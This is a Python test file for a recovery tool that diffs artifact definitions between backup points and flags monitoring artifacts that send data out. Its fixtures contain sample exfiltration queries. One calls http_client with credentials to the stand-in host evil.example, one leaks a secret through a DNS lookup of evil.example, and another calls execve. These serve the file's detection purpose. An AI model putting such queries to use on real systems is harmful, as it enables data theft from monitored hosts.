"""What in a recovery point would run code: shown against the point before."""

import json

import pytest

from recovery.restore.material import (
    changed_artifacts,
    definitions_in_backup,
    definitions_in_state,
)
from recovery.restore.outgoing import outgoing, senders
from tests.unit.restore.points import BACKUP, tar_of

HARMLESS = "name: Custom.A\nsources:\n  - query: SELECT * FROM info()\n"
SENDS = "name: Custom.B\nsources:\n  - query: SELECT * FROM http_client(url=U, data=D)\n"


def test_definitions_of_a_real_backup(tmp_path):
    path = tmp_path / "b.zip"
    path.write_bytes(BACKUP)
    found = definitions_in_backup(path)
    assert ("root", "Custom.Server.Marker") in found
    assert "name: Custom.Server.Marker" in found["root", "Custom.Server.Marker"]


def test_definitions_of_a_state(tmp_path):
    path = tmp_path / "s.tar"
    path.write_bytes(
        tar_of(
            "artifact_definitions/Custom/A.yaml",
            "orgs/O1/artifact_definitions/Custom/B.yaml",
            "users/x.db",
            data=HARMLESS.encode(),
        )
    )
    assert definitions_in_state(path) == {
        ("root", "Custom.A"): HARMLESS,
        ("O1", "Custom.B"): HARMLESS,
    }


def test_changes_are_shown_with_their_diff_new_ones_first():
    now = {("root", "A"): "one\ntwo\n", ("root", "N"): "x\n"}
    before = {("root", "A"): "one\n2\n", ("root", "R"): "y\n"}
    found = changed_artifacts(now, before)
    assert [(item.change, item.name) for item in found] == [
        ("new", "N"),
        ("changed", "A"),
        ("removed", "R"),
    ]
    assert found[1].diff[1:] == (" one", "-2", "+two")
    assert found[1].words == "changed: A in root (+1 -1 lines)"
    assert changed_artifacts(now, now) == []


def test_monitoring_that_sends_data_out_is_named_with_the_host_alone(tmp_path):
    env = [{"key": "U", "value": "https://user:secret@evil.example/x?token=1"}]
    server = {
        "artifacts": ["Custom.B", "Custom.A", "Elastic.Events.Upload"],
        "specs": [{"artifact": "Custom.B", "parameters": {"env": env}}],
    }
    path = tmp_path / "s.tar"
    path.write_bytes(tar_of("config/server_monitoring.json.db", data=json.dumps(server).encode()))
    definitions = {("root", "Custom.A"): HARMLESS, ("root", "Custom.B"): SENDS}
    found = outgoing(path, definitions)
    assert [item.words for item in found] == [
        "root: server monitoring: Custom.B sends data out by http_client to evil.example",
        "root: server monitoring: Elastic.Events.Upload sends data out by its built-in query",
    ]


@pytest.mark.parametrize("name", ["labelEvents", "label_events"])  # on the disk, and by the API
def test_a_clients_table_with_labels(tmp_path, name):
    table = {
        "artifacts": {"artifacts": ["Generic.Client.Stats"]},
        name: [{"label": "x", "artifacts": {"artifacts": ["Custom.B"]}}],
    }
    path = tmp_path / "s.tar"
    path.write_bytes(
        tar_of("orgs/O1/config/client_monitoring.json.db", data=json.dumps(table).encode())
    )
    (found,) = outgoing(path, {("root", "Custom.B"): SENDS})
    assert (found.org, found.table, found.artifact) == ("O1", "client monitoring", "Custom.B")


def test_who_calls_a_sender_sends():
    calls = "sources:\n  - query: SELECT * FROM Artifact.Custom.B(x=1)\n"
    loop = "sources:\n  - query: SELECT * FROM Artifact.Custom.L()\n"
    definitions = {
        ("root", "Custom.B"): SENDS,
        ("root", "Custom.C"): calls,
        ("root", "Custom.L"): loop + "Artifact.Custom.M()",
        ("root", "Custom.M"): "Artifact.Custom.L()",
    }
    assert senders("Custom.C", "root", definitions) == ("http_client",)
    assert senders("Custom.L", "root", definitions) == ()
    assert senders("Custom.Unknown", "root", definitions) == ()


@pytest.mark.parametrize(
    ("query", "by"),
    [
        ("LET f = http_client\nSELECT * FROM f(url='https://x')", ("http_client",)),
        ("SELECT * FROM execve /* */ (argv='x')", ("execve",)),
        ("SELECT mail(to='x') FROM scope()", ("mail",)),
        ("LET send = mail\nSELECT send(to='x') FROM scope()", ("mail",)),
        ("SELECT rsyslog(hostname='x') FROM sql(driver='mysql')", ("rsyslog", "sql")),
        ("SELECT host(name=Secret + '.evil.example') FROM scope()", ("host",)),
        ("SELECT mail, my_http_client FROM addresses()", ()),
    ],
)
def test_a_plugin_is_found_by_whatever_name_it_is_called(query, by):
    assert senders("A", "root", {("root", "A"): query}) == by
